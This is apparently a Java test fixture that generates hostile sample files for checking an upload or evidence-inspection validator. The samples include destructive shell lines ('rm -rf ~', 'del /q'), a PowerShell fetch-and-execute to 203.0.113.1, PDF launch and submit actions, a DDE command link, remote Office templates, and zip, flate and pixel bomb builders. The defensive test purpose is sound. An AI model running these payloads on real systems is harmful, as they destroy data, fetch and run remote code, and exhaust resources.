package io.redress.evidence.inspection;

import static io.redress.evidence.inspection.SampleFiles.bytes;
import static io.redress.evidence.inspection.SampleFiles.pdf;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** Files that mean harm, made here and kept nowhere. Each is of one kind, so that it is refused for one reason. */
final class HostileFiles {

    private static final String DOCUMENT =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private HostileFiles() {}

    record Hostile(String fileName, byte[] content, Refusal refusal) {
        @Override
        public String toString() {
            return fileName + ": " + refusal.code();
        }
    }

    static List<Hostile> all() {
        List<Hostile> all = new ArrayList<>();
        programs(all);
        markup(all);
        archives(all);
        pictures(all);
        polyglots(all);
        pdfs(all);
        office(all);
        mails(all);
        all.add(new Hostile("empty.pdf", new byte[0], Refusal.EMPTY));
        return all;
    }

    private static void programs(List<Hostile> all) {
        byte[] windows = bytes("MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0");
        all.add(new Hostile("setup.exe", windows, Refusal.EXECUTABLE));
        all.add(new Hostile("photo.jpg", windows, Refusal.EXECUTABLE));
        all.add(new Hostile("invoice.pdf", bytes("\u007fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0"), Refusal.EXECUTABLE));
        all.add(new Hostile("A.class", bytes("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041\0\u000f\n\0"), Refusal.EXECUTABLE));
        all.add(new Hostile(
                "mac.txt",
                bytes("\u00cf\u00fa\u00ed\u00fe\u0007\0\0\u0001\u0003\0\0\0\u0002\0\0\0"),
                Refusal.EXECUTABLE));
        all.add(new Hostile(
                "order.lnk",
                bytes("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00c0\0\0\0\0\0\0F\u009b\0\u0008\0"),
                Refusal.EXECUTABLE));
        all.add(new Hostile("run.sh", bytes("#!/bin/sh\nrm -rf ~\n"), Refusal.SCRIPT));
        all.add(new Hostile("notes.txt", bytes("#!/usr/bin/env python3\nimport os\n"), Refusal.SCRIPT));
        all.add(new Hostile("notes.txt", bytes("@echo off\r\ndel /q *.*\r\n"), Refusal.SCRIPT));
        all.add(new Hostile("order.js", bytes("new ActiveXObject('WScript.Shell').Run('calc')"), Refusal.SCRIPT));
        all.add(new Hostile("order.ps1", bytes("Invoke-WebRequest http://203.0.113.1/a | iex"), Refusal.SCRIPT));
        all.add(new Hostile("photo.jpg.vbs", bytes("MsgBox \"hello\""), Refusal.SCRIPT));
    }

    private static void markup(List<Hostile> all) {
        all.add(new Hostile("a.html", bytes("<!DOCTYPE html><html><body>hi</body></html>"), Refusal.MARKUP));
        all.add(new Hostile("a.txt", bytes("\n\n <script>alert(1)</script>"), Refusal.MARKUP));
        all.add(new Hostile("a.txt", bytes("\u00ef\u00bb\u00bf<html><script>alert(1)</script>"), Refusal.MARKUP));
        all.add(new Hostile("a.txt", ("\ufeff<script>alert(1)</script>").getBytes(UTF_16LE), Refusal.MARKUP));
        all.add(new Hostile(
                "a.svg",
                bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>"),
                Refusal.MARKUP));
        all.add(new Hostile(
                "a.png",
                bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"></svg>"),
                Refusal.MARKUP));
        all.add(new Hostile(
                "a.txt", bytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"x\">]><a>&b;</a>"), Refusal.MARKUP));
    }

    private static void archives(List<Hostile> all) {
        all.add(new Hostile("a.zip", SampleFiles.zip(Map.of("a.txt", "a")), Refusal.ARCHIVE));
        all.add(new Hostile("a.rar", bytes("Rar!\u001a\u0007\u0001\0\u0033\u0092\u00b5\u00e5"), Refusal.ARCHIVE));
        all.add(new Hostile("a.7z", bytes("7z\u00bc\u00af\u0027\u001c\0\u0004\0\0\0\0"), Refusal.ARCHIVE));
        all.add(new Hostile("a.gz", bytes("\u001f\u008b\u0008\0\0\0\0\0\0\u0003\0\0\0"), Refusal.ARCHIVE));
        all.add(new Hostile("locked.zip", encrypted(SampleFiles.zip(Map.of("a.txt", "a"))), Refusal.ENCRYPTED));
        all.add(new Hostile("locked.docx", encrypted(SampleFiles.docx()), Refusal.ENCRYPTED));
        all.add(new Hostile("locked.docx", encryptedOffice(), Refusal.ENCRYPTED));
        byte[] docx = SampleFiles.docx();
        all.add(new Hostile("half.docx", Arrays.copyOf(docx, docx.length / 2), Refusal.DAMAGED));
        all.add(new Hostile("bomb.docx", officeBomb(200), Refusal.ARCHIVE_BOMB));
        all.add(new Hostile("flat.docx", flatBomb(), Refusal.ARCHIVE_BOMB));
    }

    private static void pictures(List<Hostile> all) {
        all.add(new Hostile("bomb.jpg", jpeg(65_500, 65_500), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("late.jpg", jpeg(65_500, 0), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("bomb.png", png(100_000, 100_000), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("overflow.png", png(0xffffffff, 0xffffffff), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("bomb.webp", webp(16_777_216, 1_000), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("lossless.webp", losslessWebp(16_384, 16_384), Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("bomb.heic", heic("heic", 60_000, 60_000), Refusal.TOO_MANY_PIXELS));
    }

    private static void polyglots(List<Hostile> all) {
        byte[] jar = SampleFiles.zip(Map.of("META-INF/MANIFEST.MF", "Main-Class: A", "A.class", "code"));
        byte[] html = bytes("<html><script>alert(document.domain)</script></html>");
        all.add(new Hostile("gifar.jpg", joined(SampleFiles.jpeg(), jar), Refusal.POLYGLOT));
        all.add(new Hostile("padded.jpg", joined(SampleFiles.jpeg(), jar, new byte[100_000]), Refusal.POLYGLOT));
        all.add(new Hostile("jar.png", joined(SampleFiles.png(), jar), Refusal.POLYGLOT));
        all.add(new Hostile("jar.mp4", joined(SampleFiles.isoMedia("isom"), jar), Refusal.POLYGLOT));
        all.add(new Hostile(
                "rar.webm", joined(SampleFiles.matroska("webm"), bytes("Rar!\u001a\u0007\0")), Refusal.POLYGLOT));
        all.add(new Hostile("pdf.jpg", joined(SampleFiles.jpeg(), pdf()), Refusal.POLYGLOT));
        all.add(new Hostile("html.png", joined(SampleFiles.png(), html), Refusal.POLYGLOT));
        all.add(new Hostile("html.webp", joined(SampleFiles.webp(), html), Refusal.POLYGLOT));
        all.add(new Hostile("comment.jpg", jpegWithComment("<script>alert(1)</script>"), Refusal.POLYGLOT));
        all.add(new Hostile("zip.pdf", joined(pdf(), jar), Refusal.POLYGLOT));
        all.add(new Hostile("html.pdf", joined(pdf(), html), Refusal.POLYGLOT));
        all.add(new Hostile("late.pdf", joined(bytes("GARBAGE "), pdf()), Refusal.POLYGLOT));
        all.add(new Hostile("pdf.docx", storedFirst("%PDF-1.7\n", SampleFiles.docx()), Refusal.POLYGLOT));
        all.add(new Hostile("tail.docx", joined(SampleFiles.docx(), bytes("something behind")), Refusal.POLYGLOT));
        all.add(new Hostile("text.txt", joined(SampleFiles.text(), jar), Refusal.POLYGLOT));
        all.add(new Hostile("twice.docx", twice(), Refusal.POLYGLOT));
    }

    private static void pdfs(List<Hostile> all) {
        all.add(new Hostile(
                "script.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", ""), Refusal.PDF_SCRIPT));
        all.add(new Hostile(
                "escaped.pdf",
                pdf("/OpenAction << /S /J#61va#53cript /J#53 (app.alert(1)) >>", ""),
                Refusal.PDF_SCRIPT));
        all.add(new Hostile("hidden.pdf", pdfWithObjectStream("<< /S /JavaScript /JS (1) >>"), Refusal.PDF_SCRIPT));
        all.add(new Hostile(
                "orphan.pdf",
                pdf("", "9 0 obj\n<< /Length 5 >>\nstream\nabcde\nendobj\n8 0 obj << /S /JavaScript >> endobj"),
                Refusal.PDF_SCRIPT));
        all.add(new Hostile("form.pdf", pdf("/AcroForm << /Fields [] /XFA (x) >>", ""), Refusal.PDF_SCRIPT));
        all.add(new Hostile("launch.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>", ""), Refusal.PDF_ACTION));
        all.add(new Hostile(
                "submit.pdf", pdf("/OpenAction << /S /SubmitForm /F (http://203.0.113.1) >>", ""), Refusal.PDF_ACTION));
        all.add(new Hostile(
                "attachment.pdf",
                pdf(
                        "/Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>",
                        "8 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>\nendobj\n"
                                + "9 0 obj\n<< /Length 2 >>\nstream\nMZ\nendstream\nendobj"),
                Refusal.PDF_EMBEDDED_FILE));
        all.add(new Hostile("locked.pdf", encryptedPdf("secret"), Refusal.ENCRYPTED));
        all.add(new Hostile("restricted.pdf", encryptedPdf(""), Refusal.ENCRYPTED));
        all.add(new Hostile("bomb.pdf", pdfBomb(100 << 20, "/Filter /FlateDecode"), Refusal.ARCHIVE_BOMB));
        all.add(new Hostile(
                "objects.pdf",
                pdfBomb(20 << 20, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
                Refusal.ARCHIVE_BOMB));
        all.add(new Hostile(
                "disguised.pdf",
                pdfBomb(20 << 20, "/Subtype /Image /N 1 /F#69rst 4 /Filter /FlateDecode"),
                Refusal.ARCHIVE_BOMB));
        all.add(new Hostile(
                "picture.pdf",
                pdf(
                        "",
                        "8 0 obj\n<< /Subtype /Image /Width 90000 /Height 90000 /Length 1 >>\nstream\n1\nendstream\nendobj"),
                Refusal.TOO_MANY_PIXELS));
        all.add(new Hostile("broken.pdf", bytes("%PDF-1.7\nnothing more"), Refusal.DAMAGED));
    }

    private static void office(List<Hostile> all) {
        all.add(new Hostile("macros.docx", SampleFiles.docxWithMacros(), Refusal.MACROS));
        all.add(new Hostile(
                "macros.docx", docx(Map.of(), DOCUMENT.replace("document.main", "macroEnabled.main")), Refusal.MACROS));
        all.add(new Hostile("control.docx", docx(Map.of("word/activeX/activeX1.bin", "x")), Refusal.MACROS));
        all.add(new Hostile(
                "template.docx",
                docx(Map.of(
                        "word/_rels/settings.xml.rels", elsewhere("attachedTemplate", "http://203.0.113.1/a.dotm"))),
                Refusal.EXTERNAL_CONTENT));
        all.add(new Hostile(
                "object.docx",
                docx(Map.of("word/_rels/document.xml.rels", elsewhere("oleObject", "mhtml:http://203.0.113.1/a"))),
                Refusal.EXTERNAL_CONTENT));
        all.add(new Hostile(
                "pixel.docx",
                docx(Map.of("word/_rels/document.xml.rels", elsewhere("image", "file://203.0.113.1/share/a.png"))),
                Refusal.EXTERNAL_CONTENT));
        all.add(new Hostile(
                "dde.xlsx",
                SampleFiles.zip(Map.of(
                        "[Content_Types].xml",
                        "<Types><Override PartName=\"/w.xml\" ContentType=\"" + FileKind.XLSX.mediaType()
                                + ".main+xml\"/></Types>",
                        "xl/externalLinks/externalLink1.xml",
                        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")),
                Refusal.EXTERNAL_CONTENT));
        all.add(new Hostile("ole.docx", docx(Map.of("word/embeddings/oleObject1.bin", "x")), Refusal.EMBEDDED_OBJECT));
        all.add(new Hostile(
                "entities.docx",
                docx(Map.of("word/comments.xml", "<!DOCTYPE a [<!ENTITY b \"xx\"><!ENTITY c \"&b;&b;\">]><a>&c;</a>")),
                Refusal.ARCHIVE_BOMB));
    }

    private static void mails(List<Hostile> all) {
        all.add(new Hostile("a.eml", mail("setup.exe", bytes("MZ\u0090\0\u0003")), Refusal.DANGEROUS_ATTACHMENT));
        all.add(new Hostile("a.eml", mail("photo.jpg", bytes("MZ\u0090\0\u0003")), Refusal.DANGEROUS_ATTACHMENT));
        all.add(new Hostile("a.eml", mail("a.html", bytes("<html>hi</html>")), Refusal.DANGEROUS_ATTACHMENT));
        all.add(new Hostile("a.eml", mail("a.docx", SampleFiles.docxWithMacros()), Refusal.DANGEROUS_ATTACHMENT));
        all.add(new Hostile(
                "a.eml",
                mail("re.eml", mail("fw.eml", mail("setup.exe", bytes("MZ\u0090\0\u0003")))),
                Refusal.DANGEROUS_ATTACHMENT));
        all.add(new Hostile("a.eml", mail("bomb.docx", officeBomb(200)), Refusal.ARCHIVE_BOMB));
        all.add(new Hostile(
                "a.eml",
                bytes("From: a@example.com\r\nTo: b@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
                        + "Content-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\nMIIB\r\n"),
                Refusal.ENCRYPTED));
    }

    // ---- how they are made ------------------------------------------------------------------------------------------

    static byte[] jpeg(int width, int height) {
        return joined(
                bytes("\u00ff\u00d8\u00ff\u00e0\0\u0010JFIF\0\u0001\u0001\0\0\u0001\0\u0001\0\0"),
                bytes("\u00ff\u00c0\0\u000b\u0008"),
                ByteBuffer.allocate(4)
                        .putShort((short) height)
                        .putShort((short) width)
                        .array(),
                bytes("\u0001\u0001\u0011\0\u00ff\u00da\0\u0008\u0001\u0001\0\0\u003f\0\u0012\u0034\u00ff\u00d9"));
    }

    static byte[] jpegWithComment(String comment) {
        return joined(
                bytes("\u00ff\u00d8\u00ff\u00fe"),
                ByteBuffer.allocate(2).putShort((short) (comment.length() + 2)).array(),
                bytes(comment),
                bytes("\u00ff\u00d9"));
    }

    static byte[] png(int width, int height) {
        byte[] header = ByteBuffer.allocate(17)
                .put(bytes("IHDR"))
                .putInt(width)
                .putInt(height)
                .put(bytes("\u0008\u0002\0\0\0"))
                .array();
        CRC32 sum = new CRC32();
        sum.update(header);
        return joined(
                bytes("\u0089PNG\r\n\u001a\n\0\0\0\r"),
                header,
                ByteBuffer.allocate(4).putInt((int) sum.getValue()).array(),
                bytes("\0\0\0\0IEND\u00ae\u0042\u0060\u0082"));
    }

    static byte[] webp(int width, int height) {
        ByteBuffer file = ByteBuffer.allocate(30).order(ByteOrder.LITTLE_ENDIAN);
        file.put(bytes("RIFF")).putInt(22).put(bytes("WEBPVP8X")).putInt(10).putInt(0);
        for (int size : new int[] {width - 1, height - 1}) {
            file.put((byte) size).put((byte) (size >> 8)).put((byte) (size >> 16));
        }
        return file.array();
    }

    static byte[] losslessWebp(int width, int height) {
        return ByteBuffer.allocate(25)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(bytes("RIFF"))
                .putInt(17)
                .put(bytes("WEBPVP8L"))
                .putInt(5)
                .put((byte) 0x2f)
                .putInt(width - 1 | height - 1 << 14)
                .array();
    }

    static byte[] heic(String brand, int width, int height) {
        byte[] size = box(
                "ispe",
                ByteBuffer.allocate(12).putInt(0).putInt(width).putInt(height).array());
        byte[] properties = box("iprp", box("ipco", size));
        return joined(
                box("ftyp", bytes(brand + "\0\0\0\0mif1" + brand)),
                box("meta", joined(new byte[4], properties)),
                box("mdat", new byte[16]));
    }

    static byte[] box(String type, byte[] content) {
        return joined(ByteBuffer.allocate(4).putInt(content.length + 8).array(), bytes(type), content);
    }

    static byte[] docx(Map<String, String> parts) {
        return docx(parts, DOCUMENT);
    }

    static byte[] docx(Map<String, String> parts, String type) {
        Map<String, String> all = new LinkedHashMap<>(parts);
        all.put(
                "[Content_Types].xml",
                "<Types><Override PartName=\"/word/document.xml\" ContentType=\"" + type + "\"/></Types>");
        all.put("word/document.xml", "<w:document xmlns:w=\"w\"/>");
        return SampleFiles.zip(all);
    }

    static String elsewhere(String kind, String target) {
        return "<Relationships><Relationship Id=\"r1\" Type=\"%s\" Target=\"%s\" TargetMode=\"External\"/></Relationships>"
                .formatted(RELATIONS + kind, target);
    }

    static byte[] mail(String attachment, byte[] content) {
        return bytes("From: seller@example.com\r\nTo: buyer@example.com\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\n"
                + "Subject: your chairs\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b"
                + content.length + "\r\n\r\n--b" + content.length
                + "\r\nContent-Type: text/html\r\n\r\n<html><body>See attached.</body></html>\r\n--b" + content.length
                + "\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                + "Content-Disposition: attachment; filename=\"" + attachment + "\"\r\n\r\n"
                + Base64.getMimeEncoder().encodeToString(content) + "\r\n--b" + content.length + "--\r\n");
    }

    /** A document of this many MB of nothing in a few hundred KB. */
    static byte[] officeBomb(int megabytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            writeOfficeBomb(out, megabytes);
        } catch (IOException cause) {
            throw new UncheckedIOException(cause);
        }
        return out.toByteArray();
    }

    static void writeOfficeBomb(OutputStream out, int megabytes) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(("<Types><Override PartName=\"/word/document.xml\" ContentType=\"" + DOCUMENT + "\"/></Types>")
                    .getBytes(UTF_8));
            zip.putNextEntry(new ZipEntry("word/media/image1.bmp"));
            byte[] nothing = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                zip.write(nothing);
            }
            zip.closeEntry();
        }
    }

    /** Many names for the same bytes, none of which is compressed much by itself. */
    private static byte[] flatBomb() {
        byte[] zip = docx(Map.of("word/media/image1.jpg", noise(20_000)));
        ByteBuffer file = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        int end = zip.length - 22;
        int table = file.getInt(end + 16);
        byte[] entry = Arrays.copyOfRange(zip, table, end);
        int names = 100;
        ByteArrayOutputStream copies = new ByteArrayOutputStream();
        for (int i = 0; i < names; i++) {
            byte[] copy = entry.clone();
            // Each entry of the copy gets a name of its own.
            ByteBuffer records = ByteBuffer.wrap(copy).order(ByteOrder.LITTLE_ENDIAN);
            for (int at = 0; at < copy.length; ) {
                int nameLength = records.getShort(at + 28);
                if (i > 0) {
                    copy[at + 46] = (byte) ('0' + i / 10);
                    copy[at + 47] = (byte) ('0' + i % 10);
                }
                at += 46 + nameLength + records.getShort(at + 30) + records.getShort(at + 32);
            }
            copies.writeBytes(copy);
        }
        byte[] last = Arrays.copyOfRange(zip, end, zip.length);
        ByteBuffer.wrap(last)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putShort(8, (short) (names * 3))
                .putShort(10, (short) (names * 3))
                .putInt(12, copies.size())
                .putInt(16, table);
        return joined(Arrays.copyOf(zip, table), copies.toByteArray(), last);
    }

    private static String noise(int bytes) {
        byte[] noise = new byte[bytes];
        new Random(7).nextBytes(noise);
        return Base64.getEncoder().encodeToString(noise);
    }

    /** Sets the flag that says so, in both places where it stands. */
    private static byte[] encrypted(byte[] zip) {
        byte[] locked = zip.clone();
        for (int i = 0; i + 4 < zip.length; i++) {
            if (zip[i] == 'P' && zip[i + 1] == 'K') {
                if (zip[i + 2] == 3 && zip[i + 3] == 4) {
                    locked[i + 6] |= 1;
                } else if (zip[i + 2] == 1 && zip[i + 3] == 2) {
                    locked[i + 8] |= 1;
                }
            }
        }
        return locked;
    }

    /** What an office program writes with a password: an OLE container with the document in it. */
    private static byte[] encryptedOffice() {
        return joined(
                bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"),
                new byte[1_016],
                "EncryptedPackage".getBytes(UTF_16LE),
                new byte[512]);
    }

    private static byte[] twice() {
        byte[] zip = docx(Map.of("word/document.xmk", "another"));
        String text = new String(zip, ISO_8859_1);
        return bytes(text.replace("document.xmk", "document.xml"));
    }

    /** A document whose first entry is not compressed, so that it begins with these words. */
    private static byte[] storedFirst(String words, byte[] docx) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            ZipEntry first = new ZipEntry("a");
            first.setMethod(ZipEntry.STORED);
            first.setSize(words.length());
            CRC32 sum = new CRC32();
            sum.update(bytes(words));
            first.setCrc(sum.getValue());
            zip.putNextEntry(first);
            zip.write(bytes(words));
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(("<Types><Override PartName=\"/word/document.xml\" ContentType=\"" + DOCUMENT + "\"/></Types>")
                    .getBytes(UTF_8));
            zip.closeEntry();
        } catch (IOException cause) {
            throw new UncheckedIOException(cause);
        }
        return out.toByteArray();
    }

    private static byte[] pdfWithObjectStream(String object) {
        byte[] packed = deflated(bytes("9 0 " + object));
        return pdf(
                "",
                "8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + packed.length
                        + " >>\nstream\n" + new String(packed, ISO_8859_1) + "\nendstream\nendobj");
    }

    private static byte[] pdfBomb(int size, String dictionary) {
        byte[] packed = deflated(new byte[size]);
        return pdf(
                "",
                "8 0 obj\n<< " + dictionary + " /Length " + packed.length + " >>\nstream\n"
                        + new String(packed, ISO_8859_1) + "\nendstream\nendobj");
    }

    private static byte[] encryptedPdf(String password) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            document.protect(new StandardProtectionPolicy("owner", password, new AccessPermission()));
            document.save(out);
            return out.toByteArray();
        } catch (IOException cause) {
            throw new UncheckedIOException(cause);
        }
    }

    private static byte[] deflated(byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(out, new Deflater(9))) {
            deflate.write(content);
        } catch (IOException cause) {
            throw new UncheckedIOException(cause);
        }
        return out.toByteArray();
    }

    static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    /** A file of this many MB: the beginning, then noise, then the end. */
    static Path large(Path directory, byte[] beginning, int megabytes, byte[] end) throws IOException {
        Path file = Files.createTempFile(directory, "large", "");
        byte[] noise = new byte[1 << 20];
        new Random(7).nextBytes(noise);
        try (DataOutputStream out = new DataOutputStream(Files.newOutputStream(file))) {
            out.write(beginning);
            for (int i = 0; i < megabytes; i++) {
                out.write(noise);
            }
            out.write(end);
        }
        return file;
    }
}
